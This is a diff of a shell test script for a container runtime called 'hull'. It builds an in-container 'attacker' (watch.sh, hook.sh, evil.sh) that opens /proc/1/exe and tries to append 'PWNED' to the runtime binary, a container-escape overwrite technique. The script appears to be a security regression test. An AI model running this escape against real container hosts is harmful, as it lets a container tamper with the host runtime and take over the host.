@@ -26,13 +26,14 @@ HULL=$WORK/bin/hull
 SHA0=$(sha256sum "$HULL" | cut -d' ' -f1)
 
 B=$WORK/b
+OUT=
 write_attacker() {  # rootfs
 	cat > "$1/watch.sh" <<'EOF'
 #!/bin/sh
 # watch.sh pid1|fifo — the attacker, inside the container
 out() { echo "$*" > /result.tmp; mv /result.tmp /result; exit 0; }
 if [ "$1" = pid1 ]; then
-	pid=1
+	target=$2    # the hook opened fd 3 on /proc/1/exe while the init was hull
 else
 	pid= i=0
 	while [ -z "$pid" ]; do
@@ -45,9 +46,11 @@ else
 		[ -z "$pid" ] && usleep 10000
 	done
 fi
-exec 3< /proc/$pid/exe || out "cannot open /proc/$pid/exe"
-target=$(readlink /proc/$pid/exe)
-[ "$1" = fifo ] && { cat /fifo > /dev/null & }
+if [ "$1" = fifo ]; then
+	exec 3< /proc/$pid/exe || out "cannot open /proc/$pid/exe"
+	target=$(readlink /proc/$pid/exe)
+	cat /fifo > /dev/null &
+fi
 i=0
 while [ $i -lt 200 ]; do
 	msg=$( { printf PWNED >> /proc/self/fd/3; } 2>&1 ) && out "wrote $target"
@@ -56,7 +59,12 @@ while [ $i -lt 200 ]; do
 done
 out "still busy $target"
 EOF
-	printf '#!/bin/sh\nsetsid /bin/sh /watch.sh pid1 </dev/null >/dev/null 2>&1 &\n' > "$1/hook.sh"
+	cat > "$1/hook.sh" <<'EOF'
+#!/bin/sh
+exec 3< /proc/1/exe || { echo "cannot open /proc/1/exe" > /result; exit 0; }
+t=$(readlink /proc/1/exe)
+setsid /bin/sh /watch.sh pid1 "$t" </dev/null >/dev/null 2>&1 &
+EOF
 	printf '#!/proc/self/exe --log=/fifo\n' > "$1/evil.sh"
 	chmod 0755 "$1/watch.sh" "$1/hook.sh" "$1/evil.sh"
 	rm -f "$1/fifo" "$1/result"
